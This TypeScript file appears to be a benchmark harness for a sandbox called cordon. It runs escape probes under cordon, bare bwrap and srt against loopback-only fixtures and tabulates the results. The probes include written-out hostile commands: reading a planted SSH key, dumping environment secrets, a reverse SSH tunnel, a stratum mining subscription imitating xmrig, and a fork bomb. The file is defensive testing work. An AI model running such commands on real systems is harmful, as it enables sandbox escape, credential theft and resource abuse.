/**
 * The capability matrix: cordon and each peer (bare bwrap, srt when it runs) run the same short
 * probes, and each cell says whether the attempt was blocked (judged by its effect on the host:
 * the marker unseen, the file absent, the upstream received zero bytes) and whether the sandbox
 * reported it, with what. Runs inside scripts/isolated.sh; targets are loopback listeners only,
 * reached by the name registry.test (cordon: network.hosts; srt: /etc/hosts in a private mount
 * namespace of its own, since srt has no hosts map).
 */
import { spawn, spawnSync } from 'node:child_process';
import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:net';
import { homedir, tmpdir } from 'node:os';
import { join } from 'node:path';
import { resolvePolicy } from '../src/policy/index.js';
import type { Report } from '../src/report/index.js';
import { CordonRuntime } from '../src/runtime/index.js';
import { errorText, runCapture } from './harness.js';
import { PeerContext, bwrapArgv, type SrtPeer } from './peers/index.js';

export interface MatrixCell {
  /** null: not applicable here (e.g. no GPU on this host) or the peer could not run it. */
  blocked: boolean | null;
  /** What the sandbox reported about the attempt; empty when nothing was reported. */
  reported: string;
  detail: string;
}

export interface MatrixRow {
  probe: string;
  cells: Record<string, MatrixCell>;
}

interface Fixtures {
  tag: string;
  sshFile: string;
  outsidePath: string;
  secret: string;
  shmId: string | undefined;
  gpuOnHost: boolean;
  upstream: Map<number, number>;
  cleanup(): Promise<void>;
}

const SECRET_NAME = 'CORDON_BENCH_API_KEY';
const SSH_PORT = 2222;
const TLS_PORT = 443;
const STRATUM = '{"id":1,"method":"mining.subscribe","params":["xmrig/6.21"]}';
// The proxy the sandbox was given, for proxy-aware clients (cordon also captures direct flows).
// srt's proxy wants credentials (user:pass@, the user URL-encoded); socat sends them in CONNECT.
const PROXY = [
  'p=${HTTPS_PROXY:-${https_proxy:-}}; p=${p#*://}; p=${p%/}; auth=',
  'case $p in *@*) auth=",proxyauth=$(printf %s "${p%@*}" | sed "s/%3D/=/g")"; p=${p#*@};; esac',
  'ph=${p%:*}; pp=${p##*:}',
  // via HOST PORT: a relay command line for that destination, through the proxy when there is one
  'via() { if [ -n "$p" ]; then echo "socat - PROXY:$ph:$1:$2,proxyport=$pp$auth"; else echo "socat - TCP:$1:$2"; fi; }',
].join('\n');

function listen(port: number, counts: Map<number, number>): Promise<Server> {
  const server = createServer((s) => {
    s.on('data', (b) => counts.set(port, (counts.get(port) ?? 0) + b.length));
    s.on('error', () => undefined);
    setTimeout(() => s.destroy(), 2000).unref();
  });
  return new Promise((resolve, reject) => {
    server.once('error', reject);
    server.listen(port, '127.0.0.1', () => resolve(server));
  });
}

async function fixtures(): Promise<Fixtures> {
  const tag = `${process.pid}${Date.now() % 100000}`;
  const sshDir = join(homedir(), '.ssh');
  const madeSshDir = !existsSync(sshDir);
  mkdirSync(sshDir, { recursive: true, mode: 0o700 });
  const sshFile = join(sshDir, `cordon-bench-${tag}`);
  writeFileSync(sshFile, `key-${tag}\n`, { mode: 0o600 });
  const secret = `sk-bench-${tag}`;
  process.env[SECRET_NAME] = secret;
  const ipc = spawnSync('ipcmk', ['-M', '4096'], { encoding: 'utf8' });
  const shmId = /(\d+)\s*$/.exec(ipc.stdout ?? '')?.[1];
  // A host process whose argv carries the tag: a sandbox that lists it sees the host.
  const sleeper = spawn('sleep', [`77${tag}`], { stdio: 'ignore' });
  const upstream = new Map<number, number>();
  const servers = [await listen(SSH_PORT, upstream), await listen(TLS_PORT, upstream)];
  const gpuOnHost = ['/dev/nvidiactl', '/dev/nvidia0', '/dev/dri', '/dev/kfd'].some(existsSync);
  const outsidePath = `/var/tmp/cordon-bench-escape-${tag}`;
  return {
    tag,
    sshFile,
    outsidePath,
    secret,
    shmId,
    gpuOnHost,
    upstream,
    async cleanup() {
      sleeper.kill('SIGKILL');
      delete process.env[SECRET_NAME];
      if (shmId) spawnSync('ipcrm', ['-m', shmId]);
      rmSync(outsidePath, { force: true });
      rmSync(madeSshDir ? sshDir : sshFile, { recursive: true, force: true });
      await Promise.all(servers.map((s) => new Promise((r) => s.close(r))));
    },
  };
}

interface Probe {
  id: string;
  title: string;
  script(fx: Fixtures): string;
  judge(out: string, fx: Fixtures): boolean | null;
  /** Policy overrides for cordon (limits small enough to show within seconds). */
  policy?: Record<string, unknown>;
  /** Upstream port whose byte count must stay zero. */
  port?: number;
}

const PROBES: Probe[] = [
  {
    id: 'ssh-keys',
    title: 'read ~/.ssh',
    script: (fx) => `cat ${fx.sshFile} 2>&1; true`,
    judge: (out, fx) => !out.includes(`key-${fx.tag}`),
  },
  {
    id: 'write-outside',
    title: 'write outside the workspace',
    script: (fx) => `echo x > ${fx.outsidePath} 2>&1; true`,
    judge: (_o, fx) => !existsSync(fx.outsidePath),
  },
  {
    id: 'host-processes',
    title: 'see host processes',
    script: () => 'cat /proc/[0-9]*/cmdline 2>/dev/null | tr "\\0" " "; echo',
    judge: (out, fx) => !out.includes(`77${fx.tag}`),
  },
  {
    id: 'host-ipc',
    title: 'see host SysV IPC',
    script: () => 'ipcs -m 2>&1',
    judge: (out, fx) => (fx.shmId ? !new RegExp(`\\b${fx.shmId}\\b`).test(out) : null),
  },
  {
    id: 'env-secret',
    title: 'read a host secret from the environment',
    script: () => 'env',
    judge: (out, fx) => !out.includes(fx.secret),
  },
  {
    id: 'gpu',
    title: 'open a GPU node',
    script: () => 'ls /dev/nvidia0 /dev/nvidiactl /dev/dri /dev/kfd 2>&1; true',
    judge: (out, fx) => (fx.gpuOnHost ? !/^\/dev\/(nvidia|kfd)|card\d|renderD/m.test(out) : null),
  },
  {
    id: 'reverse-ssh',
    title: `reverse SSH to an allowed name on an unlisted port (:${SSH_PORT})`,
    script: () =>
      `${PROXY}\nssh -o BatchMode=yes -o StrictHostKeyChecking=no -o ConnectTimeout=3 ` +
      `-o "ProxyCommand=$(via %h %p)" -p ${SSH_PORT} -R 9000:localhost:22 ` +
      `agent@registry.test true 2>&1; true`,
    judge: () => true,
    port: SSH_PORT,
  },
  {
    id: 'stratum-443',
    title: 'stratum to an allowed name on 443',
    script: () =>
      `${PROXY}\nprintf '%s\\n' '${STRATUM}' | $(via registry.test ${TLS_PORT}) 2>&1; true`,
    judge: () => true,
    port: TLS_PORT,
  },
  {
    id: 'fork-bomb',
    title: 'fork bomb (200 processes)',
    script: () =>
      'for i in $(seq 200); do sleep 4 & done 2>/dev/null; echo running=$(ls /proc | grep -c "^[0-9]")',
    judge: (out) => Number(/running=(\d+)/.exec(out)?.[1] ?? 0) < 200,
    policy: { resources: { pids: 64, timeoutMs: 15_000 } },
  },
  {
    id: 'memory-hog',
    title: 'memory hog (300 MB)',
    script: () => 'head -c 300M /dev/zero | tail > /dev/null && echo hog-finished',
    judge: (out) => !out.includes('hog-finished'),
    policy: { resources: { memoryMB: 64, timeoutMs: 20_000 } },
  },
];

type Runner = (probe: Probe, fx: Fixtures) => Promise<{ out: string; reported: string }>;

const bwrapRunner: Runner = async (probe, fx) => {
  const r = await runCapture(bwrapArgv(['sh', '-c', probe.script(fx)]), { timeoutMs: 30_000 });
  return { out: r.out, reported: '' };
};

function srtRunner(peer: SrtPeer, hostsFile: string): Runner {
  return async (probe, fx) => {
    const argv = peer.cliArgv(probe.script(fx));
    const r = await runCapture(
      [
        'unshare',
        '--mount',
        '--',
        'sh',
        '-c',
        `mount --bind ${hostsFile} /etc/hosts && exec "$@"`,
        'srt',
        ...argv,
      ],
      { cwd: peer.workspace, timeoutMs: 30_000 },
    );
    const said = r.out
      .split('\n')
      .filter((l) => /violation|blocked by|denied by|not allowed by/i.test(l) && !l.includes('='))
      .slice(0, 2)
      .join(' ');
    return { out: r.out, reported: said ? `in its output: ${said.slice(0, 120)}` : '' };
  };
}

function cordonReported(r: Report): string {
  const parts = [
    ...r.findings.map((f) => `${f.category}: ${f.rule} (${f.action})`),
    ...r.network.flows
      .filter((f) => f.decision === 'deny')
      .map((f) => `${f.protocol} to ${f.host ?? f.address}:${f.port} denied, ${f.bytesOut} B out`),
    ...r.limitEvents.map((l) => `${l.limit} limit: ${l.detail}`),
    ...r.deniedSyscalls.map((s) => `seccomp denied ${s.syscall}`),
  ];
  return [...new Set(parts)].slice(0, 3).join('; ');
}

function cordonRunner(rt: CordonRuntime): Runner {
  return async (probe, fx) => {
    const policy = resolvePolicy({
      ...probe.policy,
      network: { allow: ['registry.test:443/tls'], hosts: { 'registry.test': '127.0.0.1' } },
    });
    const { result, report } = await rt.run(['sh', '-c', probe.script(fx)], {
      policy,
      capture: true,
    });
    return {
      out: `${result.stdout ?? ''}${result.stderr ?? ''}`,
      reported: cordonReported(report),
    };
  };
}

async function cell(run: Runner, probe: Probe, fx: Fixtures): Promise<MatrixCell> {
  try {
    if (probe.port) fx.upstream.set(probe.port, 0);
    const { out, reported } = await run(probe, fx);
    const bytes = probe.port ? (fx.upstream.get(probe.port) ?? 0) : 0;
    const blocked = probe.port ? bytes === 0 : probe.judge(out, fx);
    const last = out.trim().split('\n').slice(-1)[0]?.slice(0, 100) ?? '';
    return {
      blocked,
      reported,
      detail: probe.port ? `upstream received ${bytes} B; ${last}` : last,
    };
  } catch (error) {
    return { blocked: null, reported: '', detail: `could not run: ${errorText(error)}` };
  }
}

/**
 * Runs every probe under cordon and each peer.
 * @example const rows = await runMatrix({ peers: new PeerContext(true) });
 */
export async function runMatrix(
  options: { peers?: PeerContext; only?: string[] } = {},
): Promise<MatrixRow[]> {
  if (process.env.CORDON_ISOLATED !== '1') {
    throw new Error('run the capability matrix inside scripts/isolated.sh (it creates netns)');
  }
  const peers = options.peers ?? new PeerContext(true);
  const fx = await fixtures();
  const dir = mkdtempSync(join(tmpdir(), 'cordon-bench-matrix-'));
  const rt = await CordonRuntime.start({ network: 'cordon', monitor: 'ebpf' });
  try {
    const hostsFile = join(dir, 'hosts');
    writeFileSync(hostsFile, `${readFileSync('/etc/hosts', 'utf8')}\n127.0.0.1 registry.test\n`);
    const runners: Record<string, Runner> = { cordon: cordonRunner(rt), 'bare bwrap': bwrapRunner };
    const srt = await peers.srtPeer();
    const srtError = 'error' in srt ? srt.error : undefined;
    if (!('error' in srt)) runners[`srt ${srt.version}`] = srtRunner(srt, hostsFile);
    const rows: MatrixRow[] = [];
    for (const probe of PROBES.filter((p) => !options.only || options.only.includes(p.id))) {
      const cells: Record<string, MatrixCell> = {};
      for (const [name, run] of Object.entries(runners)) cells[name] = await cell(run, probe, fx);
      if (srtError) cells.srt = { blocked: null, reported: '', detail: srtError };
      rows.push({ probe: probe.title, cells });
    }
    return rows;
  } finally {
    await rt.close();
    await fx.cleanup();
    rmSync(dir, { recursive: true, force: true });
  }
}

/** The matrix as a markdown table: one column per sandbox. */
export function formatMatrix(rows: readonly MatrixRow[]): string {
  const names = [...new Set(rows.flatMap((r) => Object.keys(r.cells)))];
  const mark = (c: MatrixCell | undefined): string => {
    if (!c) return '';
    const b = c.blocked === null ? 'n/a' : c.blocked ? 'blocked' : '**NOT blocked**';
    const why = c.blocked === null ? ` (${c.detail.slice(0, 80)})` : '';
    return `${b}${why}; ${c.reported ? `reported: ${c.reported.replace(/\|/g, '/')}` : 'not reported'}`;
  };
  return [
    `| probe | ${names.join(' | ')} |`,
    `|---|${names.map(() => '---').join('|')}|`,
    ...rows.map((r) => `| ${r.probe} | ${names.map((n) => mark(r.cells[n])).join(' | ')} |`),
  ].join('\n');
}
